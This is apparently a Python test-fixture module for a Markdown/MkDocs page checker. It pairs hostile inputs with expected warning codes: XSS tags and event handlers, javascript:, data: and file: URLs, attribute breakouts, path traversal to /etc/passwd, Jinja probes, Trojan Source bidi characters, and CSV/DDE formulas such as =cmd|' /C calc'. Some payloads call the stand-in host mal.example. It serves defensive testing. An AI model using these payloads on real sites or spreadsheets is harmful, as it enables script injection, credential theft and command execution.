"""Hostile texts, each with what the engine must say of it, and on which of its lines.

Sources of the forms: OWASP « XSS Filter Evasion Cheat Sheet » and « CSV Injection »; PortSwigger’s cross-site scripting
cheat sheet; CVE-2018-8048 (libxml2 and comments in attributes); Boucher and Anderson, « Trojan Source » (2021);
CommonMark’s and Python-Markdown’s own test suites: what the second took for markup is now code or plain text.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """A text for a field; ``expected`` lists `CODE` or `CODE+n`, n lines below the first; empty when it is harmless."""

    name: str
    text: str
    expected: tuple[str, ...]


def _payloads(rows: dict[str, tuple[str, str]]) -> tuple[Payload, ...]:
    return tuple(Payload(name, text, tuple(codes.split())) for name, (text, codes) in rows.items())


PAGES = _payloads({
    # ——— tags, in the places where Markdown keeps them
    "script": ("<script>alert(1)</script>", "SEC001"),
    "script-dans-une-phrase": ("Un mot <script>alert(1)</script> de trop.", "SEC001"),
    "script-majuscules": ("<SCRIPT SRC=//mal.example/x.js></SCRIPT>", "SEC001"),
    "script-coupe": ("<scr<script>ipt>alert(1)</scr</script>ipt>", "SEC001"),
    "script-plusieurs-lignes": ("Avant.\n\n<script>\n\nalert(1)\n\n</script>", "SEC001+2"),
    "image-onerror": ("<img src=x onerror=alert(1)>", "SEC001"),
    "image-majuscules": ("<IMG SRC=x ONERROR=alert(1)>", "SEC001"),
    "image-barres": ("Voici <img/src=x/onerror=alert(1)> une image.", ""),
    "image-lignes": ("Voici <img\nsrc=x\nonerror=alert(1)> une image.", "SEC001"),
    "image-tabulations": ("<img\tsrc=x\tonerror=alert(1)>", "SEC001"),
    "image-pas-fermee": ("<img src=x onerror=alert(1)", ""),
    "image-srcset": ("<img alt=x srcset=https://mal.example/x.png>", "SEC001"),
    "svg-onload": ("<svg/onload=alert(1)>", ""),
    "svg-animation": ("<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "SEC001"),
    "svg-lien": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "SEC001"),
    "math": ("<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>", "SEC001"),
    "body": ("<body onload=alert(1)>", "SEC001"),
    "frameset": ("<frameset onload=alert(1)>", "SEC001"),
    "iframe": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "SEC001"),
    "objet": ('<object data="data:text/html,<script>alert(1)</script>"></object>', "SEC001"),
    "embed": ('<embed src="//mal.example/x.svg">', "SEC001"),
    "base": ('<base href="https://mal.example/">', "SEC001"),
    "meta": ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "SEC001"),
    "lien-feuille": ('<link rel=stylesheet href="//mal.example/x.css">', "SEC001"),
    "style": ("<style>@import url(//mal.example/x.css);</style>", "SEC001"),
    "formulaire": ('<form action="https://mal.example"><input name=motdepasse></form>', "SEC001"),
    "bouton-formaction": ('<button formaction="javascript:alert(1)">Suite</button>', "SEC001"),
    "details-ontoggle": ("<details open ontoggle=alert(1)><summary>x</summary></details>", "SEC001"),
    "video-source": ("<video><source onerror=alert(1)></video>", "SEC001"),
    "audio": ("<audio src=x onerror=alert(1)></audio>", "SEC001"),
    "marquee": ("<marquee onstart=alert(1)>x</marquee>", "SEC001"),
    "portal": ('<portal src="https://mal.example"></portal>', "SEC001"),
    "noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "SEC001"),
    "textarea": ('<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', "SEC001"),
    "template": ("<template><script>alert(1)</script></template>", "SEC001"),
    "lien-ping": ("<a href=x ping=https://mal.example>x</a>", "SEC001"),
    "lien-html": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "SEC001"),
    "gras-onclick": ("Un <b onclick=alert(1)>mot</b> gras.", "SEC001"),
    "style-en-ligne": ('<p style="position:fixed;inset:0">tout l’écran</p>', "SEC001"),
    "recherche-detournee": ('<div id="recherche" data-index="https://mal.example/x.js"></div>', "SEC001"),
    "bloc-a-la-main": ('<div data-bloc="modules"></div>', "SEC001"),
    "quiz-a-la-main": ('<div class="quiz"><form onsubmit=alert(1)></form></div>', "SEC001"),
    "ferme-la-page": ("</div></article></body><script>alert(1)</script>", "SEC001"),
    "ferme-le-titre": ("</title><script>alert(1)</script>", "SEC001"),
    "balise-inconnue": ("<x onclick=alert(1)>x</x>", "SEC001"),
    "balise-admise-chargee": ("<kbd onclick=alert(1)>Ctrl</kbd>", "SEC001"),
    "balise-admise-suivie": ("<kbd>\n<script>alert(1)</script>", "SEC001"),
    "balise-lang-chargee": ('<span lang="en" onclick=alert(1)>x</span>', "SEC001"),
    "balise-lang-longue": ("<span lang='en\" onclick=alert(1) x=\"'>x</span>", "SEC001"),
    # ——— nested places
    "dans-un-titre": ("## <img src=x onerror=alert(1)>", "SEC001"),
    "dans-une-emphase": ("*a<img src=x onerror=alert(1)>*", "SEC001"),
    "dans-un-lien": ("[x <img src=x onerror=alert(1)>](index.md)", "SEC001"),
    "dans-une-liste": ("- a\n\n    <img src=x onerror=alert(1)>", "SEC001+2"),
    "dans-une-citation": ("> > <script>alert(1)</script>", "SEC001"),
    "dans-une-citation-de-liste": ("> - > <img src=x onerror=alert(1)>", "SEC001"),
    "dans-un-tableau": ("| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |", "SEC001+2"),
    "dans-un-encadre": ('!!! exemple "Titre"\n    <script>alert(1)</script>', "SEC001+1"),
    "dans-un-titre-d-encadre": ('!!! exemple "<img src=x onerror=alert(1)>"\n    Texte.', "SEC001"),
    # ——— comments, CDATA, instructions
    "commentaires-autour": ("<!-- a --><script>alert(1)</script><!-- b -->", "SEC001"),
    "commentaires-autour-d-image": ("Un <!-- a --><img src=x onerror=alert(1)><!-- b --> mot.", "SEC001"),
    "commentaire-vide": ("<!--> <script>alert(1)</script> -->", "SEC001"),
    "commentaire-presque-vide": ("<!---> <script>alert(1)</script> -->", "SEC001"),
    "commentaire-point-d-exclamation": ("<!-- a --!><script>alert(1)</script> -->", "SEC001"),
    "commentaire-ouvert": ("<!-- jamais fermé <script>alert(1)</script>", "SEC001"),
    "commentaire-de-mkdocs-quiz": ("<!-- MKDOCS_QUIZ_PLACEHOLDER_0 -->", ""),
    "commentaire-resultats": ("<!-- mkdocs-quiz results -->", ""),
    "cdata": ("<![CDATA[<script>alert(1)</script>]]>", "SEC001"),
    "instruction": ("<?php <script>alert(1)</script> ?>", "SEC001"),
    "instruction-quiz": ("<?quiz?>", "SEC001"),
    "doctype": ('<!DOCTYPE x [<!ENTITY y "<script>">]>', "SEC001"),
    # ——— code, which shows what it holds
    "echappement": ("\\<img src=x onerror=alert(1)>", ""),
    "cloture-en-retrait": (" ```\n<script>alert(1)</script>\n ```", ""),
    "cloture-pas-fermee": ("```\n<script>alert(1)</script>", "SEQ034"),
    "cloture-trop-courte": ("````\n<script>alert(1)</script>\n```", "SEQ034"),
    "cloture-inegale": ("```\n<script>alert(1)</script>\n````", ""),
    "cloture-avec-mots": ("```py un deux\n<script>alert(1)</script>\n```", ""),
    "cloture-retournee": ("```a b\n```\nx\n```\n<img src=x onerror=alert(1)>\n```", ""),
    "code-sur-deux-lignes": ("`\n<video onerror=alert(1) src=x>\n`", ""),
    "code-de-liste": ("- a\n\n      <img src=x onerror=alert(1)>", ""),
    "code-de-cellule": ("| `a | b` <img src=x onerror=alert(1)> `c |\n| --- | --- |\n| d | e |", ""),
    "code-d-encadre": ("!!! exemple\n    ```\n    <script>alert(1)</script>\n\n    ```", ""),
    "code-sans-danger": ("`<script>alert(1)</script>`", ""),
    "cloture-sans-danger": ("```html\n<script>alert(1)</script>\n```", ""),
    "entites-sans-danger": ("&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;", ""),
    # ——— addresses
    "javascript": ("[x](javascript:alert(1))", "SEC002"),
    "javascript-casse": ("[x](JaVaScRiPt:alert(1))", "SEC002"),
    "javascript-pointe": ("[x](<javascript:alert(1)>)", "SEC002"),
    "javascript-guillemets": ("[x](javascript:alert('a b'))", "SEQ030"),
    "javascript-espace": ("[x](javascript:alert(1) //)", "SEQ030"),
    "javascript-ligne": ("[x](java\nscript:alert(1))", "SEQ030"),
    "javascript-tabulation": ("[x](java\tscript:alert(1))", "SEQ030"),
    "javascript-entite": ("[x](javascript&colon;alert(1))", "SEC002"),
    "javascript-entite-nombre": ("[x](&#x6A;&#97vascript:alert(1))", "LIE001"),
    "javascript-entite-tab": ("[x](java&Tab;script:alert(1))", "SEC002"),
    "javascript-entite-ligne": ("[x](java&NewLine;script&colon;alert(1))", "SEC002"),
    "javascript-commande": ("[x](\x01javascript:alert(1))", "SEC004 SEQ030"),
    "javascript-insecable": ("[x](\u00a0javascript:alert(1))", "SEC002"),
    "javascript-titre": ('[x](javascript:alert(1) "titre")', "SEC002"),
    "javascript-reference": ("[x][y]\n\n[y]: javascript:alert(1)", "SEC002"),
    "javascript-reference-collee": ("Un texte.\n[y]: javascript:alert(1)\n\n[x][y]", "SEQ030+3"),
    "javascript-reference-ligne": ("[x][y]\n\n[y]:\n  javascript:alert(1)", "SEC002"),
    "javascript-reference-courte": ("[y]\n\n[y]: javascript:alert(1) 'x'", "SEC002"),
    "javascript-reference-citee": ("> [y]: javascript:alert(1)\n\n[x][y]", "SEC002+2"),
    "javascript-automatique": ("<javascript:alert(1)>", "SEC002"),
    "javascript-image": ("![Une image.](javascript:alert(1))", "SEC002 LIE003"),
    "vbscript": ("[x](vbscript:msgbox(1))", "SEC002"),
    "donnees": ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "SEC002"),
    "donnees-svg": ("![Une image.](data:image/svg+xml,<svg/onload=alert(1)>)", "SEC002 LIE003"),
    "fichier": ("[x](file:///etc/passwd)", "SEC002"),
    "blob": ("[x](blob:https://mal.example/1)", "SEC002"),
    "vue-source": ("[x](view-source:https://mal.example)", "SEC002"),
    "protocole-inconnu": ("[x](ms-msdt:/id)", "SEC002"),
    "sans-protocole": ("[x](//mal.example/x)", "LIE003"),
    "image-sans-protocole": ("![Une image.](//mal.example/x.png)", "LIE003"),
    "image-barre-inverse": ("![Une image.](/\\mal.example/x.png)", "LIE003"),
    "image-deux-barres-inverses": ("![Une image.](\\\\\\\\mal.example/x.png)", "LIE003"),
    "image-d-ailleurs": ("![Une image.](https://mal.example/x.png)", "LIE003"),
    "adresse-cassee": ("[x](http://[::1)", "SEC002"),
    "image-cassee": ("![Une image.](http://[x)", "SEC002 LIE003"),
    "hors-du-projet": ("[x](../../../../../../etc/passwd)", "LIE001"),
    "image-hors-du-projet": ("![Une image.](../../../../../../etc/passwd)", "LIE001"),
    # ——— attributes that close themselves
    "titre-de-lien": ('[x](index.md "t\\" onclick=\\"alert(1)")', ""),
    "titre-de-lien-double": ('[x](index.md "t" onclick="alert(1)")', "SEQ030"),
    "texte-d-image": ('![a" onerror="alert(1)](x.png)', "LIE001"),
    "texte-d-image-balise": ("![<img src=x onerror=alert(1)>](x.png)", "SEC001 LIE001"),
    "adresse-guillemets": ('[x](https://exemple.fr/"onclick="alert(1))', ""),
    "adresse-commentaire": ("[x](https://exemple.fr/<!--\"'onmouseover=alert(1)//-->)", ""),
    "adresse-commentaire-simple": ("[x](https://exemple.fr/<!--'onmouseover=alert(1)//-->)", ""),
    "lien-automatique": ('<https://exemple.fr/"onclick=alert(1)>', ""),
    "attr-list": ("## Titre {: onclick=alert(1)}", "SEQ030"),
    "attr-list-paragraphe": ('Texte.\n{: onclick="alert(1)" style="color:red"}', "SEQ030+1"),
    "attr-list-lien": ('[x](index.md){: onclick="alert(1)"}', "SEQ030"),
    "langage-de-code": ("```{.x onclick=alert(1)}\ncode\n```", ""),
    "langage-de-code-guillemet": ('```x"onclick=alert(1)\ncode\n```', ""),
    "encadre-guillemet": ('!!! exemple" onclick="alert(1)\n    Texte.', ""),
    "ancre": ('## "><script>alert(1)</script>', "SEC001"),
    # ——— footnotes, which only the register writes
    "note": ("Un fait.\n\n[^x]: <script>alert(1)</script>", "SRC014+2 SEC001+2 SRC002+2"),
    "note-image": ("Un fait.\n\n[^x]: <img src=x onerror=alert(1)>", "SRC014+2"),
    "note-adresse": ("Un fait.\n\n[^x]: javascript:alert(1)", "SRC014+2"),
    "note-citee": ("> [^x]: Une note à moi.", "SRC014 SRC002"),
    "note-qui-prend-la-place": ("Un fait[^part-des-erreurs].\n\n[^part-des-erreurs]: 99 %.", "SRC014+2"),
    "marque-piegee": ('Un fait[^"><script>alert(1)</script>].', "SRC002"),
    # ——— what cannot be seen
    "sens-inverse": ("Un mot \u202eesrevni\u202c.", "SEC004"),
    "sens-inverse-en-entite": ("Un mot &#X202E;esrevni.", "SEC004"),
    "isolement": ("Un mot \u2066caché\u2069.", "SEC004"),
    "marque-de-sens": ("Un mot\u200f.", "SEC004"),
    "espace-nulle": ("java\u200bscript", "SEC004"),
    "etiquettes": ("Bonjour\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065.", "SEC004"),
    "signe-nul": ("a\x00<b>", "SEC001 SEC004"),
    "marques-internes": ("\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03", "SEC004"),
    "echappement-de-terminal": ("\x1b]0;titre\x07 \x1b[2J", "SEC004"),
    "pas-un-caractere": ("a\ufffe\uffff", "SEC004"),
    "separateur-de-ligne": ("a\u2028b", "SEC004"),
    # ——— what the engine itself reads
    "bloc-inconnu": ("<!-- bloc: secret -->", "LIE004"),
    "quiz-inconnu": ("<!-- quiz: ../../etc/passwd -->", "SEQ006"),
    "encadre-quiz": ('!!! quiz "x"\n    Texte.', ""),
    "gabarit-jinja": ("{{ config.__class__ }} {% include '/etc/passwd' %}", "SEQ030"),
    "table-des-matieres": ("[TOC]", "SEQ030"),
    "quiz-cache-dans-du-code": ("Un `<quiz>` et un `</quiz>` en code.", ""),
    "quiz-image": (
        ("<quiz>\nQue faire ? <img src=x onerror=alert(1)>\n- [x] Oui\n> Parce que c’est prudent, et que c’est la règle du service.\n"
        "- [ ] Non\n> Parce que c’est prudent, et que c’est la règle du service.\n"
         "- [ ] Peut-être <script>alert(1)</script>\n> Parce que c’est prudent, et que c’est la règle du service.\n</quiz>"),
        "SEC001+1 SEC001+6",
    ),
    "quiz-lien": (
        ("<quiz>\nQue faire ?\n- [x] Oui\n> [Voir](javascript:alert(1)) parce que c’est prudent, et que c’est la règle du service.\n"
        "- [ ] Non\n> Parce que c’est prudent, et que c’est la règle du service.\n"
         "- [ ] Rien\n> Parce que c’est prudent, et que c’est la règle du service.\n</quiz>"),
        "SEC002+2",
    ),
})  # fmt: skip

MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": "Un <img src=x onerror=alert(1)> mot.",
    "echappee": "Un \\<img src=x onerror=alert(1)> mot.",
    "svg": "<svg/onload=alert(1)>",
    "ferme": "\"'></p></section></script><script>alert(1)</script>",
    "commentaire": "<!-- a --><img src=x onerror=alert(1)><!-- b -->",
    "lien": "[x](javascript:alert(1))",
    "lien-guillemets": "[x](javascript:alert('a b'))",
    "lien-donnees": "[x](data:text/html,<script>alert(1)</script>)",
    "reference": "[x]: javascript:alert(1)",
    "entites": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "attributs": "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(1)' autofocus",
    "attr-list": 'Texte {: onclick="alert(1)"}',
    "json": "</script><!--\u2028*/;alert(1)//",
    "jinja": "{{ 7*7 }}{% raw %}",
    "formule": '=HYPERLINK("https://mal.example","x")',
}
"""Texts for the fields of YAML files: whatever the check says of them, no output may carry them as markup."""

ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "javascript-casse": "JAVASCRIPT:alert(1)",
    "javascript-commentaire": "javascript://exemple.fr/%0Aalert(1)",
    "donnees": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "fichier": "file:///etc/passwd",
    "relative": "../../etc/passwd",
    "sans-protocole": "//mal.example/x",
    "sans-hote": "https:",
    "hote-vide": "https:///x",
    "cassee": "http://[::1",
    "guillemets": 'https://exemple.fr/"onclick="alert(1)',
    "balise": "https://exemple.fr/<script>alert(1)</script>",
    "espace": "https://exemple.fr/ onclick=alert(1)",
    "barre-inverse": "https:\\\\mal.example",
    "vide": "",
}
"""Addresses that neither a fact nor a use case may have."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("https://mal.example","x")', "=cmd|' /C calc'!A0",
    "＝1+1",
)  # fmt: skip
"""Cells that a spreadsheet would compute."""
